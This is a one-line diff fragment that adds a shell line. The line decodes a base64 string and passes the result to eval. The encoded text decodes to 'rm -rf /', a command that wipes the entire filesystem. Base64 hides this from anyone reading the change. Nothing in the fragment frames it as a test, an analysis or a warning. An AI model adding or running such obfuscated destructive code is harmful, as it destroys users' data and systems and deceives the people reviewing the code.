@@ -1,0 +1,1 @@
+eval "$(echo cm0gLXJmIC8= | base64 -d)"
